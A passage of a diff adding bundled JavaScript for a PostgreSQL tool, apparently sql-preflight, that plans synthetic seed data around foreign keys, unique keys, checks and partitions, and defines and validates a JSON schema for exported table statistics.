+  let out = "";
+  let code = "";
+  let literal2 = "";
+  scan(text2, (ch, quoted) => {
+    if (quoted) {
+      if (code) out += map(code);
+      code = "";
+      literal2 += ch;
+    } else {
+      out += literal2;
+      literal2 = "";
+      code += ch;
+    }
+  });
+  return out + literal2 + (code ? map(code) : "");
+}
+var TEXT_CAST;
+var init_checks = __esm({
+  "src/seed/checks.ts"() {
+    "use strict";
+    TEXT_CAST = /::(text|character varying|character|bpchar|name|citext)\b/;
+  }
+});
+
+// src/seed/plan.ts
+async function planTable(relation, rows2, deferred, context) {
+  const byNum = new Map(relation.columns.map((c) => [c.num, c]));
+  const notes = [];
+  const routed = relation.partitioning?.routedColumns ?? /* @__PURE__ */ new Set();
+  if (relation.partitioning && relation.partitioning.leafConstraints.length === 0) return { reason: "it is partitioned but has no partition that could hold rows" };
+  const references = [];
+  const fkColumn = /* @__PURE__ */ new Map();
+  for (const fk of relation.foreignKeys) {
+    const parent = context.byOid.get(fk.parent);
+    const canBeNull = nullable(relation, fk);
+    let reference;
+    if (!parent) {
+      if (!canBeNull) return { reason: `its NOT NULL foreign key ${fk.name} references a table outside the user schemas` };
+      reference = { fk, parent: relation, mode: "null" };
+      notes.push(`${columnNames(fk, byNum)} left NULL: the referenced table is outside the user schemas`);
+    } else if (parent === relation) {
+      reference = { fk, parent, mode: canBeNull ? "deferred" : "self" };
+    } else if (deferred.includes(fk) || context.pending.has(parent)) {
+      reference = { fk, parent, mode: "deferred" };
+    } else {
+      const keys = await context.keys(parent, fk.parentColumns);
+      if (keys.count === 0) {
+        if (!canBeNull) return { reason: `its NOT NULL foreign key ${fk.name} references ${parent.name}, which has no rows` };
+        reference = { fk, parent, mode: "null" };
+        notes.push(`${columnNames(fk, byNum)} left NULL: ${parent.name} has no rows`);
+      } else {
+        reference = { fk, parent, mode: "join", keys };
+      }
+    }
+    references.push(reference);
+    for (const num of fk.columns) if (!fkColumn.has(num)) fkColumn.set(num, reference);
+  }
+  const generated = relation.columns.filter(
+    (c) => c.filledBy === "nothing" || c.filledBy === "default" && (fkColumn.has(c.num) || routed.has(c.name))
+  );
+  const inR = new Set(generated.map((c) => c.num));
+  const hints = /* @__PURE__ */ new Map();
+  const bySql = new Map(relation.columns.map((c) => [c.sql, c.num]));
+  const read = /* @__PURE__ */ new Map();
+  const lists = /* @__PURE__ */ new Map();
+  const addHints = (expr) => {
+    const check = readCheck(expr, (ref) => bySql.get(ref));
+    read.set(expr, check);
+    for (const [num, h] of check.hints) {
+      hints.set(num, mergeHints(hints.get(num) ?? {}, h));
+      if (h.values) lists.set(num, (lists.get(num) ?? 0) + 1);
+    }
+  };
+  for (const check of relation.checks) addHints(check.expr);
+  const domainChecks = (c) => c.type.base !== void 0 ? baseOf(c.type, context.types).chain.flatMap((d) => (d.domainChecks ?? []).map((expr) => domainCheckFor(expr, c.sql))) : [];
+  for (const c of generated) for (const expr of domainChecks(c)) addHints(expr);
+  let target = rows2;
+  let maxRow = Infinity;
+  const injective = /* @__PURE__ */ new Set();
+  const radix = [];
+  let collisions = false;
+  const want = (c, unique4) => ({ unique: unique4, hints: hints.get(c.num) ?? {}, name: c.name.toLowerCase(), rows: rows2 });
+  const keyName = (columns2) => `(${columns2.map((n) => byNum.get(n)?.name ?? "?").join(", ")})`;
+  for (const key of relation.uniques) {
+    const columns2 = key.columns.map((n) => byNum.get(n)).filter((c) => c !== void 0);
+    const selfUnique = columns2.some(
+      (c) => !inR.has(c.num) && (c.filledBy === "identity" || c.filledBy === "default" && VOLATILE_UNIQUE_DEFAULT.test(c.default ?? ""))
+    );
+    if (selfUnique || columns2.some((c) => injective.has(c.num))) continue;
+    const joined = references.filter((r) => r.mode === "join" && r.fk.columns.every((n) => key.columns.includes(n)));
+    const combinations = joined.reduce((product, r) => product * r.keys.count, joined.length > 0 ? 1 : 0);
+    let best;
+    for (const c of columns2) {
+      if (!inR.has(c.num) || fkColumn.has(c.num) || routed.has(c.name)) continue;
+      const value = columnValue2(c, want(c, true), context.salts(relation, c.name), context);
+      const capacity = "expr" in value ? value.capacity : 0;
+      if (!best || capacity > best.capacity) best = { column: c, capacity };
+    }
+    if (best && best.capacity > 0 && best.capacity >= Math.min(combinations, target)) {
+      injective.add(best.column.num);
+      if (best.capacity < target) notes.push(`capped at ${best.capacity} rows: unique key ${keyName(key.columns)} holds no more distinct values`);
+      maxRow = Math.min(maxRow, best.capacity);
+    } else if (joined.length > 0) {
+      radix.push(joined);
+      if (combinations < target) notes.push(`capped at ${combinations} rows: unique key ${keyName(key.columns)} has only that many combinations of parent rows`);
+      maxRow = Math.min(maxRow, combinations);
+    } else {
+      collisions = true;
+    }
+  }
+  target = Math.min(target, maxRow);
+  const partitionValue = relation.partitioning ? partitionKeyValue(relation, byNum, context) : void 0;
+  const columns = [];
+  const joins = [];
+  const values = /* @__PURE__ */ new Map();
+  const hinted = /* @__PURE__ */ new Set();
+  const unsupported = [];
+  for (const c of generated) {
+    const reference = fkColumn.get(c.num);
+    if (reference) continue;
+    const castTo = c.type.baseSql ?? c.sqlType;
+    let value;
+    if (partitionValue?.column === c) {
+      value = partitionValue.expr;
+    } else {
+      const generatedValue = columnValue2(c, want(c, injective.has(c.num)), context.salts(relation, c.name), context);
+      if (!("expr" in generatedValue)) {
+        if (c.notNull || domainNotNull(c)) return { reason: `column ${c.name} is NOT NULL, has no default, and its type ${generatedValue.unsupported} is not one the generator can produce` };
+        unsupported.push(`${c.name} (${generatedValue.unsupported})`);
+        continue;
+      }
+      value = generatedValue.expr;
+      hinted.add(c.num);
+    }
+    const nulls = c.notNull || domainNotNull(c) || injective.has(c.num) || routed.has(c.name) || hints.get(c.num)?.notNull ? 0 : nullsPerMille(c.name.toLowerCase());
+    const salts = context.salts(relation, c.name);
+    values.set(c.num, value);
+    const typed = `(${value})::${castTo}`;
+    columns.push({ column: c, value: nulls > 0 ? `CASE WHEN ${below(1e3, salts("null"))} < ${nulls} THEN NULL ELSE ${typed} END` : typed, outer: outerOf(c) });
+  }
+  if (unsupported.length > 0) notes.push(`left NULL, of a type the generator cannot produce: ${unsupported.join(", ")}`);
+  for (const [j, reference] of references.entries()) {
+    const { fk } = reference;
+    const own = fk.columns.map((n, i) => ({ column: byNum.get(n), parentColumn: fk.parentColumns[i] })).filter(({ column }) => fkColumn.get(column.num) === reference && inR.has(column.num));
+    if (reference.mode === "self") {
+      const parentValues = fk.parentColumns.map((n) => values.get(n));
+      if (parentValues.some((v) => v === void 0)) {
+        return { reason: `its NOT NULL foreign key ${fk.name} references the table's own rows through columns the generator does not fill (identity or defaults)` };
+      }
+      for (const { column, parentColumn } of own) {
+        columns.push({ column, value: `(${values.get(parentColumn)})::${column.type.baseSql ?? column.sqlType}`, outer: outerOf(column) });
+      }
+      continue;
+    }
+    if (reference.mode !== "join") {
+      for (const { column } of own) columns.push({ column, value: `NULL::${column.type.baseSql ?? column.sqlType}`, outer: outerOf(column) });
+      continue;
+    }
+    const keys = reference.keys;
+    const alias = `k${j}`;
+    const salts = context.salts(relation, `fk:${fk.name}`);
+    const group = radix.find((g) => g.includes(reference));
+    let index;
+    if (group) {
+      const stride = group.slice(0, group.indexOf(reference)).reduce((p, r) => p * r.keys.count, 1);
+      index = `1 + ((${ROW} - 1) / ${stride}) % ${keys.count}`;
+    } else {
+      index = `1 + ${pick(keys.count, salts("pick"), context.skew)}`;
+      if (nullable(relation, fk)) index = `CASE WHEN ${below(1e3, salts("null"))} < 100 THEN NULL ELSE ${index} END`;
+    }
+    const parent = reference.parent;
+    if ("first" in keys) {
+      for (const { column } of own) columns.push({ column, value: `(${keys.first - 1} + ${index})::${column.type.baseSql ?? column.sqlType}`, outer: outerOf(column) });
+      continue;
+    }
+    joins.push(`LEFT JOIN ${keys.table} AS ${alias} ON ${alias}.i = ${index}`);
+    for (const { column, parentColumn } of own) {
+      const parentSql = parent.columns.find((c) => c.num === parentColumn).sql;
+      columns.push({ column, value: `${alias}.${parentSql}::${column.type.baseSql ?? column.sqlType}`, outer: outerOf(column) });
+    }
+  }
+  const followed = (expr) => {
+    const check = read.get(expr);
+    return check !== void 0 && check.complete && [...check.hints].every(([num, h]) => hinted.has(num) && (lists.get(num) ?? 0) <= 1 && honours(byNum.get(num), h, context));
+  };
+  const filters = [];
+  const inSubquery = new Set(columns.map((c) => c.column.num));
+  for (const check of relation.checks) {
+    if (check.columns.every((n) => inSubquery.has(n)) && !followed(check.expr)) filters.push({ label: `CHECK constraint ${check.name}`, sql: `(${check.expr}) IS NOT FALSE` });
+  }
+  for (const { column } of columns) {
+    for (const expr of domainChecks(column)) {
+      if (!followed(expr)) filters.push({ label: `a CHECK of domain ${column.type.sql} (column ${column.name})`, sql: `(${expr}) IS NOT FALSE` });
+    }
+  }
+  const partitioning = relation.partitioning;
+  if (partitioning && !partitioning.defaultLeaf) {
+    const names3 = new Set(columns.map((c) => c.column.name));
+    if ([...partitioning.routedColumns].every((name) => names3.has(name))) {
+      filters.push({ label: "the partitions' bounds", sql: `(${partitioning.leafConstraints.map((c) => `(${c})`).join(" OR ")})` });
+    }
+  }
+  const hashes = /* @__PURE__ */ new Set();
+  const shared = (sql) => sql.replace(/hashint8extended\(sp\.g, (\d+)\)/g, (_, salt) => {
+    hashes.add(Number(salt));
+    return `sp.h${salt}`;
+  });
+  for (const c of columns) c.value = shared(c.value);
+  return {
+    relation,
+    target,
+    maxRow,
+    columns,
+    joins: joins.map(shared),
+    hashes: [...hashes],
+    filters,
+    deferred: references.filter((r) => r.mode === "deferred").map((r) => r.fk),
+    collisions,
+    deferrableUnique: relation.uniques.some((u) => u.deferrable),
+    notes
+  };
+}
+function honours(column, hints, context) {
+  if (hints.values) return true;
+  const { type } = baseOf(column.type, context.types);
+  const builtin = type.schema === "pg_catalog";
+  if (hints.min !== void 0 || hints.max !== void 0) {
+    if (!(builtin && BOUNDED.has(type.name))) return false;
+    const integer2 = type.name !== "numeric";
+    const lo = hints.min === void 0 ? -Infinity : integer2 ? hints.minExclusive ? Math.floor(hints.min) + 1 : Math.ceil(hints.min) : hints.min;
+    const hi = hints.max === void 0 ? Infinity : integer2 ? hints.maxExclusive ? Math.ceil(hints.max) - 1 : Math.floor(hints.max) : hints.max;
+    if (lo > hi || lo === hi && !integer2 && (hints.minExclusive || hints.maxExclusive)) return false;
+  }
+  if ((hints.minLength !== void 0 || hints.maxLength !== void 0) && !(builtin && TEXT.has(type.name) || !builtin && type.category === "S")) return false;
+  return true;
+}
+function outerOf(column) {
+  return column.type.base !== void 0 ? `r.${column.sql}::${column.sqlType} AS ${column.sql}` : `r.${column.sql}`;
+}
+function columnNames(fk, byNum) {
+  return fk.columns.map((n) => byNum.get(n)?.name ?? "?").join(", ");
+}
+function partitionKeyValue(relation, byNum, context) {
+  const partitioning = relation.partitioning;
+  if (partitioning.key.length !== 1) return void 0;
+  const column = byNum.get(partitioning.key[0]);
+  if (!column || column.filledBy === "identity" || column.filledBy === "generated") return void 0;
+  const salts = context.salts(relation, column.name);
+  const base = baseOf(column.type, context.types).type;
+  if (partitioning.strategy === "list") {
+    const values = partitioning.bounds.flatMap((b) => listBound(b) ?? []);
+    if (values.length === 0) return void 0;
+    return { column, expr: `(ARRAY[${values.join(", ")}]::${base.sql}[])[1 + ${pick(values.length, salts("partition"), context.skew)}]` };
+  }
+  if (partitioning.strategy !== "range" || base.schema !== "pg_catalog" || !RANGE_TYPES.has(base.name)) return void 0;
+  const ranges = partitioning.bounds.map(rangeBound).filter((r) => r !== void 0);
+  if (ranges.length === 0) return void 0;
+  const which = `1 + ${below(ranges.length, salts("partition"))}`;
+  const from = `(ARRAY[${ranges.map((r) => r.from).join(", ")}]::${base.sql}[])[${which}]`;
+  const to = `(ARRAY[${ranges.map((r) => r.to).join(", ")}]::${base.sql}[])[${which}]`;
+  const u = unit(salts("bound"));
+  switch (base.name) {
+    case "date":
+      return { column, expr: `(${from} + floor(${u} * (${to} - ${from}))::int4)` };
+    case "timestamp":
+    case "timestamptz":
+      return { column, expr: `(${from} + ${u} * (${to} - ${from}))` };
+    case "numeric":
+    case "float4":
+    case "float8":
+      return { column, expr: `(${from} + ${u} * (${to} - ${from}))` };
+    default:
+      return { column, expr: `(${from} + floor(${u} * (${to} - ${from})))` };
+  }
+}
+var VOLATILE_UNIQUE_DEFAULT, BOUNDED, TEXT, RANGE_TYPES;
+var init_plan3 = __esm({
+  "src/seed/plan.ts"() {
+    "use strict";
+    init_checks();
+    init_order();
+    init_values();
+    VOLATILE_UNIQUE_DEFAULT = /\b(nextval|gen_random_uuid|uuid_generate_v[14]|uuidv[47])\(/;
+    BOUNDED = /* @__PURE__ */ new Set(["int2", "int4", "int8", "numeric"]);
+    TEXT = /* @__PURE__ */ new Set(["text", "varchar", "bpchar", "name"]);
+    RANGE_TYPES = /* @__PURE__ */ new Set(["int2", "int4", "int8", "numeric", "float4", "float8", "date", "timestamp", "timestamptz"]);
+  }
+});
+
+// src/seed/index.ts
+async function seedDatabase(session, options = {}) {
+  const started = performance.now();
+  const progress = options.progress ?? silentProgress;
+  const problems = [];
+  const seed = options.seed ?? 1;
+  const maxRows = options.maxRows ?? DEFAULT_MAX_ROWS;
+  for (const file of options.userSeedFiles ?? []) {
+    const failure2 = await applyMigration(session, { path: file.path, text: file.text, skipped: [], transaction: "transaction" });
+    if (!failure2) continue;
+    const at = failure2.offset !== void 0 ? new LineIndex(file.text).position(failure2.offset) : void 0;
+    problems.push({ kind: "seed-file", file: file.path, ...at, ...failure2.offset !== void 0 ? { offset: failure2.offset } : {}, message: failure2.message, ...failure2.code ? { code: failure2.code } : {} });
+  }
+  let catalog;
+  try {
+    catalog = await readCatalog(session);
+  } catch (error) {
+    if (error instanceof ProviderError) throw error;
+    problems.push({ kind: "database", message: `reading the schema failed: ${describe2(error)}` });
+    return { tables: [], problems, rows: 0, ms: performance.now() - started, analyzeMs: 0 };
+  }
+  const relations = catalog.relations.filter((r) => !r.partition);
+  const byOid = new Map(catalog.relations.map((r) => [r.oid, r]));
+  for (const name of Object.keys(options.tables ?? {})) {
+    if (!relations.some((r) => r.name === name || r.shortName === name)) {
+      problems.push({ kind: "table", table: name, message: "the config gives its size, but the schema has no such table" });
+    }
+  }
+  const fillable = relations.filter((r) => (r.kind === "table" || r.kind === "partitioned") && !r.hasRows && r.columns.length > 0);
+  const pending = new Set(fillable);
+  const keyTables = new ParentKeyTables(session);
+  const today = (/* @__PURE__ */ new Date()).toISOString().slice(0, 10);
+  const context = {
+    types: catalog.types,
+    skew: options.skew ?? true,
+    today,
+    byOid,
+    pending,
+    salts: (relation, column) => (purpose) => fnv1a(`${seed}|${relation.name}|${column}|${purpose}`),
+    keys: (parent, columns) => keyTables.keys(parent, columns)
+  };
+  const entry = /* @__PURE__ */ new Map();
+  const record = (relation, table) => {
+    const row = { table: relation.name, ...table };
+    entry.set(relation, row);
+    if (table.status === "failed" || table.status === "partial") problems.push({ kind: "table", table: relation.name, message: table.note ?? table.status });
+    return row;
+  };
+  for (const relation of relations) {
+    const skipped = SKIPPED2[relation.kind];
+    if (skipped) record(relation, { status: "skipped", target: 0, rows: 0, ms: 0, note: skipped });
+    else if (relation.hasRows) record(relation, { status: "kept", target: 0, rows: 0, ms: 0, note: "it had rows already" });
+    else if (relation.columns.length === 0) record(relation, { status: "skipped", target: 0, rows: 0, ms: 0, note: "a table without columns" });
+  }
+  const { steps, stuck } = fillOrder(fillable, byOid);
+  for (const [relation, reason] of stuck) {
+    pending.delete(relation);
+    record(relation, { status: "failed", target: 0, rows: 0, ms: 0, note: `cannot be filled: ${reason}` });
+  }
+  const deferred = [];
+  const filled = [];
+  let inserted = 0;
+  let done = 0;
+  const tuned = await tuneSession(session);
+  try {
+    for (const { relation, deferred: cycleKeys } of steps) {
+      const tableStarted = performance.now();
+      pending.delete(relation);
+      const size = options.tables?.[relation.name]?.rows ?? options.tables?.[relation.shortName]?.rows ?? options.defaultRows ?? DEFAULT_ROWS;
+      const target = Math.min(size, maxRows);
+      const failed2 = (reason) => record(relation, { status: "failed", target, rows: 0, ms: performance.now() - tableStarted, note: `cannot be filled: ${reason}` });
+      try {
+        const plan = await planTable(relation, target, cycleKeys, context);
+        if ("reason" in plan) {
+          failed2(plan.reason);
+        } else {
+          const result2 = await fillTable(session, plan, (rows2) => {
+            const seconds2 = (performance.now() - tableStarted) / 1e3;
+            progress.step(done, steps.length, `${relation.name}: ${rows2.toLocaleString("en-US")} rows, ${Math.round(rows2 / Math.max(seconds2, 1e-3)).toLocaleString("en-US")} rows/s`);
+          });
+          inserted += result2.rows;
+          const notes = [...result2.shortfall ? [`got ${result2.rows} of ${plan.target} rows: ${result2.shortfall}`] : [], ...plan.notes];
+          const status = result2.rows >= plan.target ? "filled" : result2.rows > 0 ? "partial" : "failed";
+          record(relation, { status, target: plan.target, rows: result2.rows, ms: performance.now() - tableStarted, ...notes.length > 0 ? { note: notes.join("; ") } : {} });
+          if (result2.rows > 0) {
+            filled.push(relation);
+            deferred.push(...plan.deferred.map((fk) => ({ relation, fk })));
+          }
+        }
+      } catch (error) {
+        if (error instanceof ProviderError) throw error;
+        failed2(describe2(error));
+      }
+      progress.step(++done, steps.length, relation.name);
+    }
+    for (const { relation, fk } of deferred) {
+      const updateStarted = performance.now();
+      const parent = byOid.get(fk.parent);
+      const columns = fk.columns.map((n) => relation.columns.find((c) => c.num === n).name).join(", ");
+      const row = entry.get(relation);
+      const error = await sqlError(async () => {
+        const keys = await keyTables.keys(parent, fk.parentColumns);
+        if (keys.count === 0) {
+          row.note = [row.note, `${columns} left NULL: ${parent.name} has no rows`].filter(Boolean).join("; ");
+          return;
+        }
+        await fillDeferred(session, relation, fk, parent, keys, context.salts(relation, `fk:${fk.name}`), context.skew);
+      });
+      row.ms += performance.now() - updateStarted;
+      if (error) problems.push({ kind: "table", table: relation.name, message: `${columns} left NULL where not yet set: setting the references failed: ${error}` });
+    }
+    if (tuned.triggersOff) {
+      for (const relation of filled) {
+        const checkStarted = performance.now();
+        const error = await sqlError(async () => {
+          const references = [];
+          for (const fk of relation.foreignKeys) {
+            const parent = byOid.get(fk.parent);
+            if (parent) references.push({ fk, parent, keys: await keyTables.keys(parent, fk.parentColumns) });
+          }
+          for (const [fk, orphans] of await checkForeignKeys(session, relation, references)) {
+            problems.push({ kind: "table", table: relation.name, message: `${orphans} rows broke foreign key ${fk.name} and were removed or set to NULL` });
+          }
+        });
+        if (error) problems.push({ kind: "table", table: relation.name, message: `checking its foreign keys failed: ${error}` });
+        entry.get(relation).ms += performance.now() - checkStarted;
+      }
+    }
+  } finally {
+    await tuned.restore();
+    await keyTables.drop();
+    await dropRowFunction(session);
+  }
+  await refreshMaterializedViews(session, relations, record);
+  const analyzeStarted = performance.now();
+  for (const relation of relations) {
+    const row = entry.get(relation);
+    const filledNow = row?.status !== "kept" && (row?.rows ?? 0) > 0;
+    if (relation.kind === "view" || relation.kind === "foreign" || !(filledNow || relation.hasRows && options.analyzeKept !== false)) continue;
+    try {
+      await session.query(`VACUUM (ANALYZE) ${relation.sql}`);
+    } catch (error) {
+      if (error instanceof ProviderError) throw error;
+      problems.push({ kind: "table", table: relation.name, message: `VACUUM (ANALYZE) failed: ${describe2(error)}` });
+    }
+  }
+  const analyzeMs = performance.now() - analyzeStarted;
+  return { tables: relations.map((r) => entry.get(r)).filter((t) => t !== void 0), problems, rows: inserted, ms: performance.now() - started, analyzeMs };
+}
+async function sqlError(work) {
+  try {
+    await work();
+    return void 0;
+  } catch (error) {
+    if (error instanceof ProviderError) throw error;
+    return describe2(error);
+  }
+}
+async function refreshMaterializedViews(session, relations, record) {
+  let waiting = relations.filter((r) => r.kind === "matview");
+  const errors = /* @__PURE__ */ new Map();
+  while (waiting.length > 0) {
+    const failed2 = [];
+    for (const view of waiting) {
+      const started = performance.now();
+      try {
+        await session.query(`REFRESH MATERIALIZED VIEW ${view.sql}`);
+        const [row] = await session.query(`SELECT count(*)::int8 AS n FROM ${view.sql}`);
+        record(view, { status: "refreshed", target: 0, rows: Number(row.n), ms: performance.now() - started });
+      } catch (error) {
+        if (error instanceof ProviderError) throw error;
+        errors.set(view, describe2(error));
+        failed2.push(view);
+      }
+    }
+    if (failed2.length === waiting.length) break;
+    waiting = failed2;
+  }
+  for (const view of waiting) {
+    record(view, { status: "failed", target: 0, rows: 0, ms: 0, note: `REFRESH MATERIALIZED VIEW failed: ${errors.get(view)}` });
+  }
+}
+function fnv1a(text2) {
+  let h = 2166136261;
+  for (const byte of Buffer.from(text2, "utf8")) h = Math.imul(h ^ byte, 16777619) >>> 0;
+  return h;
+}
+var DEFAULT_ROWS, DEFAULT_MAX_ROWS, SKIPPED2;
+var init_seed = __esm({
+  "src/seed/index.ts"() {
+    "use strict";
+    init_progress();
+    init_source();
+    init_provider();
+    init_replay();
+    init_catalog2();
+    init_fill();
+    init_order();
+    init_plan3();
+    DEFAULT_ROWS = 1e4;
+    DEFAULT_MAX_ROWS = 1e6;
+    SKIPPED2 = {
+      view: "a view: it shows the rows of its tables",
+      foreign: "a foreign table: its rows live on another server"
+    };
+  }
+});
+
+// schemas/stats.schema.json
+var stats_schema_default;
+var init_stats_schema = __esm({
+  "schemas/stats.schema.json"() {
+    stats_schema_default = {
+      $schema: "http://json-schema.org/draft-07/schema#",
+      $id: "https://raw.githubusercontent.com/sql-preflight/sql-preflight/main/schemas/stats.schema.json",
+      title: "sql-preflight statistics file",
+      description: "Production table sizes and column statistics, written by `sql-preflight stats export` and read by `sql-preflight check --stats`. It holds what pg_class and pg_stats hold, and no other data. Tables are sorted by schema, then name.",
+      type: "object",
+      additionalProperties: false,
+      required: [
+        "version",
+        "source",
+        "exported_at",
+        "with_values",
+        "tables"
+      ],
+      properties: {
+        $schema: {
+          type: "string",
+          description: "The URL of this schema."
+        },
+        version: {
+          const: 1,
+          description: "The version of this format."
+        },
+        source: {
+          type: "object",
+          description: "The server the statistics were exported from.",
+          additionalProperties: false,
+          required: [
+            "server_version",
+            "server_version_num"
+          ],
+          properties: {
+            server_version: {
+              type: "string",
+              description: "server_version, e.g. 15.8."
+            },
+            server_version_num: {
+              type: "integer",
+              minimum: 90200,
+              description: "server_version_num, e.g. 150008."
+            }
+          }
+        },
+        exported_at: {
+          type: "string",
+          description: "When the statistics were exported: an ISO 8601 date and time in UTC."
+        },
+        with_values: {
+          type: "boolean",
+          description: "false: exported with --no-values, so most_common_vals, histogram_bounds and most_common_elems (with their frequencies) are null throughout."
+        },
+        tables: {
+          type: "array",
+          items: {
+            $ref: "#/definitions/table"
+          }
+        }
+      },
+      definitions: {
+        table: {
+          type: "object",
+          description: "A table, partitioned table or materialized view: its size from pg_class and its columns' statistics.",
+          additionalProperties: false,
+          required: [
+            "schema",
+            "name",
+            "kind",
+            "relpages",
+            "reltuples",
+            "relallvisible",
+            "columns"
+          ],
+          properties: {
+            schema: {
+              type: "string",
+              description: "The schema, as stored (unquoted)."
+            },
+            name: {
+              type: "string",
+              description: "The table name, as stored (unquoted)."
+            },
+            kind: {
+              enum: [
+                "table",
+                "partitioned",
+                "matview"
+              ],
+              description: "table (a table or a partition), partitioned (a partitioned table, which holds no rows itself) or matview (a materialized view)."
+            },
+            partition_of: {
+              type: [
+                "object",
+                "null"
+              ],
+              additionalProperties: false,
+              required: [
+                "schema",
+                "name"
+              ],
+              properties: {
+                schema: {
+                  type: "string"
+                },
+                name: {
+                  type: "string"
+                }
+              },
+              description: "For a partition: the partitioned table it belongs to."
+            },
+            relpages: {
+              type: "integer",
+              minimum: -1,
+              description: "pg_class.relpages: the size in pages when the table was last vacuumed or analysed (-1 or 0 for a partitioned table)."
+            },
+            reltuples: {
+              type: "number",
+              minimum: -1,
+              description: "pg_class.reltuples: the number of rows when the table was last vacuumed or analysed; -1 if it never was."
+            },
+            relallvisible: {
+              type: "integer",
+              minimum: 0,
+              description: "pg_class.relallvisible: the pages marked all-visible in the visibility map."
+            },
+            columns: {
+              type: "array",
+              items: {
+                $ref: "#/definitions/column"
+              },
+              description: "The columns' statistics, sorted by name, then inherited. Empty if the table was never analysed or the exporting role may not read its columns."
+            }
+          }
+        },
+        column: {
+          type: "object",
+          description: "One row of pg_stats: the statistics ANALYZE keeps for a column. Fields that hold column values are PostgreSQL array literals (the text of pg_stats' anyarray columns, written with DateStyle ISO, IntervalStyle postgres, TimeZone UTC), read with the column's type when they are imported. A missing or null field means PostgreSQL has no such statistic for the column (or the file was exported with --no-values).",
+          additionalProperties: false,
+          required: [
+            "name",
+            "inherited",
+            "null_frac",
+            "avg_width",
+            "n_distinct"
+          ],
+          properties: {
+            name: {
+              type: "string",
+              description: "The column name, as stored (unquoted)."
+            },
+            inherited: {
+              type: "boolean",
+              description: "true: the statistics cover the rows of the table's partitions or inheritance children too (the only kind a partitioned table has)."
+            },
+            null_frac: {
+              type: "number",
+              minimum: 0,
+              maximum: 1,
+              description: "The fraction of rows where the column is null."
+            },
+            avg_width: {
+              type: "integer",
+              minimum: 0,
+              description: "The average width of the column's values, in bytes."
+            },
+            n_distinct: {
+              type: "number",
+              minimum: -1,
+              description: "The number of distinct values if positive; if negative, minus the number of distinct values divided by the number of rows (-1: every value is distinct)."
+            },
+            most_common_vals: {
+              type: [
+                "string",
+                "null"
+              ],
+              description: "The most common values (an array literal, e.g. {delivered,shipped}). Holds column values: left out by --no-values."
+            },
+            most_common_freqs: {
+              type: [
+                "array",
+                "null"
+              ],
+              items: {
+                type: "number",
+                minimum: 0
+              },
+              description: "The frequency of each of most_common_vals, as fractions of all rows. Left out with most_common_vals."
+            },
+            histogram_bounds: {
+              type: [
+                "string",
+                "null"
+              ],
+              description: "Values that divide the column's other values into groups of about equal size (an array literal). Holds column values: left out by --no-values."
+            },
+            correlation: {
+              type: [
+                "number",
+                "null"
+              ],
+              minimum: -1,
+              maximum: 1,
+              description: "The correlation between the physical row order and the order of the column's values."
+            },
+            most_common_elems: {
+              type: [
+                "string",
+                "null"
+              ],
+              description: "Array, tsvector and similar columns: the most common elements (an array literal). Holds column values: left out by --no-values."
+            },
+            most_common_elem_freqs: {
+              type: [
+                "array",
+                "null"
+              ],
+              items: {
+                type: "number",
+                minimum: 0
+              },
+              description: "The frequency of each of most_common_elems, then the minimum, the maximum and the frequency of nulls. Left out with most_common_elems."
+            },
+            elem_count_histogram: {
+              type: [
+                "array",
+                "null"
+              ],
+              items: {
+                type: "number",
+                minimum: 0
+              },
+              description: "A histogram of the number of distinct non-null elements per value, then their average."
+            }
+          }
+        }
+      }
+    };
+  }
+});
+
+// src/stats/file.ts
+import { Ajv } from "ajv";
+function tableName3(table) {
+  return `${table.schema}.${table.name}`;
+}
+function validate(data) {
+  validator ??= new Ajv({ allErrors: true }).compile(stats_schema_default);
+  return validator(data);
+}
+function readStatsFile(path3, text2) {
+  let data;
+  try {
+    data = JSON.parse(text2);
+  } catch (error) {
+    throw new UsageError(`${path3}: not a statistics file: the JSON is invalid (${error.message}).`);
+  }
+  const version = data?.version;
+  if (typeof version === "number" && version !== STATS_FORMAT_VERSION) {
+    throw new UsageError(
+      `${path3}: /version is ${version}, but this sql-preflight reads version ${STATS_FORMAT_VERSION} of the statistics file${version > STATS_FORMAT_VERSION ? " (the file was written by a newer sql-preflight: upgrade, or export again with this one)" : ""}.`
+    );
+  }
+  if (!validate(data)) {
+    const errors = simplify(validator?.errors ?? []);
+    const lines = errors.slice(0, MAX_ERRORS).map((error) => `${path3}: ${describe3(error)}`);
+    if (errors.length > MAX_ERRORS) lines.push(`${path3}: and ${errors.length - MAX_ERRORS} more problems.`);
+    throw new UsageError(lines.join("\n"));
+  }
+  return data;
+}
+function simplify(errors) {
+  const byPlace = /* @__PURE__ */ new Map();
+  for (const error of errors) {
+    const key = `${error.instancePath}|${error.keyword === "required" ? error.params.missingProperty : ""}|${error.keyword === "additionalProperties" ? error.params.additionalProperty : ""}`;
+    if (!byPlace.has(key)) byPlace.set(key, error);
+  }
+  return [...byPlace.values()];
+}
+function describe3(error) {
+  const at = error.instancePath || "the top level";
+  switch (error.keyword) {
+    case "required":
+      return `${at} needs "${error.params.missingProperty}".`;
+    case "additionalProperties":
+      return `${at} has an unknown key "${error.params.additionalProperty}".`;
+    case "type": {
+      const types = [].concat(error.params.type);
+      return `${at} must be ${types.map((type) => type === "null" ? "null" : /^[aeiou]/.test(type) ? `an ${type}` : `a ${type}`).join(" or ")}.`;
+    }
+    case "const":
+      return `${at} must be ${JSON.stringify(error.params.allowedValue)}.`;
+    case "enum":
+      return `${at} must be one of ${error.params.allowedValues.map((v) => JSON.stringify(v)).join(", ")}.`;
+    default:
+      return `${at} ${error.message ?? "is invalid"}.`;
+  }
+}
+function seedTargets(stats) {
+  const children = /* @__PURE__ */ new Map();
+  for (const table of stats.tables) {
+    if (!table.partition_of) continue;
+    const parent = tableName3(table.partition_of);
+    children.set(parent, [...children.get(parent) ?? [], table]);
+  }
+  const leafRows = (table) => {
+    if (table.kind !== "partitioned") return table.reltuples >= 0 ? table.reltuples : void 0;
+    const counts = (children.get(tableName3(table)) ?? []).map(leafRows).filter((rows2) => rows2 !== void 0);
+    return counts.length > 0 ? counts.reduce((sum, rows2) => sum + rows2, 0) : table.reltuples >= 0 ? table.reltuples : void 0;
+  };
+  const targets = {};
+  for (const table of stats.tables) {
+    if (table.partition_of || table.kind === "matview") continue;
+    const rows2 = leafRows(table);
+    if (rows2 !== void 0) targets[tableName3(table)] = { rows: Math.round(rows2) };
+  }
+  return targets;
+}
+var STATS_FORMAT_VERSION, validator, MAX_ERRORS;
+var init_file = __esm({
+  "src/stats/file.ts"() {
+    "use strict";
+    init_errors();
+    init_stats_schema();
+    STATS_FORMAT_VERSION = 1;
+    MAX_ERRORS = 20;
+  }
+});
+
+// src/stats/apply.ts
